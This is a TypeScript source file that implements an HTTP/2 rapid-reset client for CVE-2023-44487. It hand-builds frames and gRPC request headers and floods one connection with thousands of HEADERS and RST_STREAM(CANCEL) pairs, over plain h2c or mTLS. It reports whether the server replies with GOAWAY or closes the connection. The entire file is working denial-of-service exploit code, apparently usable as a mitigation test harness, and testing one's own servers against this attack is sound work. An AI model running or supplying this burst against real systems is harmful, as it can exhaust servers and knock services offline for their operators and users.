// An HTTP/2 rapid-reset client (CVE-2023-44487) in raw frames: on one connection, HEADERS for a new
// request followed at once by RST_STREAM(CANCEL), thousands of times, without waiting for anything.
import { connect as connectTcp, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";

/** Where to aim the burst. */
export interface RapidResetTarget {
  host: string;
  port: number;
  /** The request path of every stream, e.g. `/grpc.health.v1.Health/Check`. */
  path: string;
  /** PEM client certificate, key and CA for a mesh (mTLS) port; absent: h2c with prior knowledge. */
  tls?: { cert: Buffer; key: Buffer; ca: Buffer };
}

/** What happened to the burst's connection. */
export interface RapidResetResult {
  /** HEADERS + RST_STREAM pairs written before the server closed or the burst ended. */
  sent: number;
  /** The error code of the server's GOAWAY, if it sent one (11 = ENHANCE_YOUR_CALM, 0 = NO_ERROR). */
  goawayCode: number | undefined;
  /** Whether the server closed the connection. */
  closedByServer: boolean;
}

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const GOAWAY = 0x7;
const END_HEADERS = 0x4;
const ACK = 0x1;
const CANCEL = 0x8;

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

/** A literal header field without indexing, its name taken from the static table (`index` < 15). */
function literal(index: number, value: string): Buffer {
  return Buffer.concat([Buffer.from([index, value.length]), Buffer.from(value, "latin1")]);
}

/** The HPACK block of a gRPC request: POST, scheme, path, authority, content-type, te. */
function requestBlock(path: string, secure: boolean): Buffer {
  return Buffer.concat([
    Buffer.from([0x82 + 1, secure ? 0x87 : 0x86]), // :method POST, :scheme https | http
    literal(0x04, path), // :path
    literal(0x01, "localhost"), // :authority
    Buffer.from([0x0f, 0x10]), // content-type (static index 31)
    Buffer.from([16]),
    Buffer.from("application/grpc"),
    Buffer.from([0x00, 2]), // te: trailers (a new name)
    Buffer.from("te"),
    Buffer.from([8]),
    Buffer.from("trailers"),
  ]);
}

function open(target: RapidResetTarget): Promise<Socket> {
  return new Promise((resolve, reject) => {
    const socket = target.tls
      ? connectTls({ host: target.host, port: target.port, ...target.tls, ALPNProtocols: ["h2"], servername: "localhost" }, () =>
          resolve(socket),
        )
      : connectTcp(target.port, target.host, () => resolve(socket));
    socket.once("error", reject);
  });
}

/**
 * Sends `pairs` HEADERS + RST_STREAM(CANCEL) pairs on one connection as fast as the socket takes
 * them, answering the server's SETTINGS, and reports whether and how the server ended the connection
 * (waiting at most `settleMs` after the last frame for its GOAWAY).
 */
export async function rapidReset(target: RapidResetTarget, pairs: number, settleMs = 10_000): Promise<RapidResetResult> {
  const socket = await open(target);
  const result: RapidResetResult = { sent: 0, goawayCode: undefined, closedByServer: false };
  let closed = false;
  const done = new Promise<void>((resolve) => {
    socket.on("close", () => {
      closed = true;
      resolve();
    });
  });
  socket.on("error", () => undefined);
  let goaway: () => void = () => undefined;
  const goneAway = new Promise<void>((resolve) => (goaway = resolve));
  let inbound = Buffer.alloc(0);
  socket.on("data", (chunk: Buffer) => {
    inbound = Buffer.concat([inbound, chunk]);
    while (inbound.length >= 9) {
      const length = inbound.readUIntBE(0, 3);
      if (inbound.length < 9 + length) break;
      const type = inbound.readUInt8(3);
      const flags = inbound.readUInt8(4);
      const payload = inbound.subarray(9, 9 + length);
      if (type === SETTINGS && (flags & ACK) === 0 && !closed) socket.write(frame(SETTINGS, ACK, 0, Buffer.alloc(0)));
      if (type === GOAWAY && payload.length >= 8) {
        result.goawayCode = payload.readUInt32BE(4);
        goaway();
      }
      inbound = inbound.subarray(9 + length);
    }
  });
  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
  const block = requestBlock(target.path, target.tls !== undefined);
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(CANCEL);
  const BATCH = 100;
  for (let first = 0; first < pairs && !closed; first += BATCH) {
    const frames: Buffer[] = [];
    const count = Math.min(BATCH, pairs - first);
    for (let i = 0; i < count; i++) {
      const streamId = 2 * (first + i) + 1;
      frames.push(frame(HEADERS, END_HEADERS, streamId, block), frame(RST_STREAM, 0, streamId, rst));
    }
    const flushed = socket.write(Buffer.concat(frames));
    result.sent += count;
    // A server that closes the connection while our writes are queued never lets them drain: wait for either.
    if (!flushed && !closed) await Promise.race([new Promise((resolve) => socket.once("drain", resolve)), done]);
    await new Promise<void>((resolve) => setImmediate(resolve)); // let the server's frames in
  }
  if (!closed) {
    // The server reads the burst at its own pace: wait for its GOAWAY or close, at most `settleMs`.
    await Promise.race([done, goneAway, new Promise((resolve) => setTimeout(resolve, settleMs))]);
  }
  result.closedByServer = closed;
  socket.destroy();
  await done;
  return result;
}
